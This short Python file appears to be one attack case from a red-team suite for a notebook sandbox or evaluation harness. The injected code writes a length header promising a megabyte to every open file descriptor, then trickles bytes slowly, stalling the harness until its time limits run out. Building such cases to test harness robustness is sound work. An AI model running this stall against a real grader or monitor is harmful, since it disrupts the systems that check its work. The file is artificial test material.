"""Announces a long answer and sends a byte now and then (point 4)."""

from redteam.tools import World, in_scale

BASE = "honest"
COSTS = ("test_scale", "test_scale-random")
LIMITS = "short"


def attack(notebook, world: World) -> None:
    in_scale(
        notebook,
        """
        import os
        import struct
        import time

        for fd in range(3, 64):
            try:
                os.write(fd, struct.pack("<I", 2**20))
                for _ in range(10_000):
                    os.write(fd, b"x")
                    time.sleep(0.05)
            except OSError:
                pass
        """,
    )
